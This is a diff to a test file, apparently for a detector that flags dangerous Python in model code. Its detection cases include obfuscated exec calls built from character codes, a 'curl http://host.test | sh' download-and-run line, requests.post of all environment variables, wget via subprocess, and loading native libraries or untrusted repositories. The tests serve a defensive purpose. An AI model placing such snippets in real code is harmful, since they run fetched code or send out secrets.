@@ -30,6 +30,10 @@ describe('what no model’s code needs', () => {
     ['the settings kept at the margin', "import os, requests\nif True:\n    payload = dict(os.environ)\ndef send():\n    requests.post(url, json=payload)"],
     ['a name in a longer one', "import socket\nsocket.gethostbyname(socket.gethostname() + '.host.test')"],
     ['the settings kept first', "import os, requests\npayload = {'env': dict(os.environ)}\nrequests.post(url, json=payload)"],
+    ['letters of a list of numbers', "eval(compile(''.join(map(chr, [112, 114, 105, 110, 116])), 'x', 'exec'))"],
+    ['letters of numbers in a loop', "exec(''.join(chr(c ^ 7) for c in codes))"],
+    ['letters of numbers in a text', "exec(''.join(map(chr, map(int, '112 114'.split()))))"],
+    ['a text that is cut out whole', "exec(\"import os; os.system('curl http://host.test | sh')\"[::1])"],
     ['code inside a text', "exec(\"import os; os.system('curl http://host.test | sh')\")"],
     ['code inside an f-string', "x = f\"{__import__('os').system('true')}\""],
     ['on one line behind a colon', "try: __import__('os').system('true')\nexcept Exception: pass"],
@@ -40,6 +44,11 @@ describe('what no model’s code needs', () => {
   it.each([
     ['a bare command', "import os\nos.system('id')", 'medium starts id by way of a shell'],
     ['what is typed in', "import sys\nline = input('> ').strip()\nprint(eval(line))", 'medium runs what is typed in'],
+    ['a library beside it', "import ctypes\nlib = ctypes.CDLL('./lib.so')", 'medium loads a library of native code by a path of its own'],
+    ['a library under another name', "from ctypes import cdll\ncdll.LoadLibrary('/tmp/x.so')", 'medium loads a library of native code by a path of its own'],
+    ['operators beside it', "import torch\ntorch.ops.load_library('./ops.so')", 'medium loads a library of native code by a path of its own'],
+    ['a repository that is trusted', "from torch import hub\nhub.load('owner/name', 'net', trust_repo=True)", 'medium runs a repository’s code without asking whether it is trusted'],
+    ['a module by another name', "import importlib.util\nspec = importlib.util.spec_from_file_location('m', './weights.bin')", 'medium imports a file that is not called a module'],
     ['a tool of the network', "import subprocess\nsubprocess.Popen(['wget', 'http://host.test/x'])", 'medium starts wget'],
   ])('%s', (_, source, expected) => {
     expect(what(source)).toEqual([expected]);
@@ -60,6 +69,8 @@ describe('what ordinary code does', () => {
     ['an address out of the settings', "import os, urllib.request\nurl = os.environ.get('SERVER')\nurllib.request.urlopen(urllib.request.Request(url, data=data))"],
     ['a program that the person names', "import pty, sys\npty.spawn(sys.argv[1:], read)"],
     ['a path that another function decoded', "import base64, ctypes\ndef a(x):\n    path = base64.b64decode(x)\n    return path\n\ndef b(path):\n    return ctypes.cdll.LoadLibrary(path)"],
+    ['libraries of the system, and of a package', "import ctypes, os, torch\nctypes.CDLL('libcudart.so')\nctypes.CDLL(None)\nctypes.CDLL(os.path.join(os.path.dirname(__file__), 'lib', 'libx.so'))\nctypes.windll.kernel32\ntorch.hub.load('pytorch/vision', 'resnet18')\ntorch.hub.load('.', 'net', source='local', trust_repo=True)"],
+    ['characters by their numbers', "import importlib.util\ns = ''.join(chr(c) for c in codes)\nprint(s, list(map(chr, range(97, 123))))\nspec = importlib.util.spec_from_file_location(name, path)\nspec = importlib.util.spec_from_file_location('m', os.path.join(here, 'version.py'))"],
     ['its own name', "import socket\nhost = socket.gethostname()\nip = socket.gethostbyname(host)\nsocket.getaddrinfo(socket.getfqdn(), None)"],
     ['what another function read', "import os, requests\ndef keep(path):\n    data = dict(os.environ)\n    save(data, path)\n\ndef send(url, data):\n    requests.post(url, json=data)"],
     ['exec by its module', "import builtins\nbuiltins.exec(source, space)"],
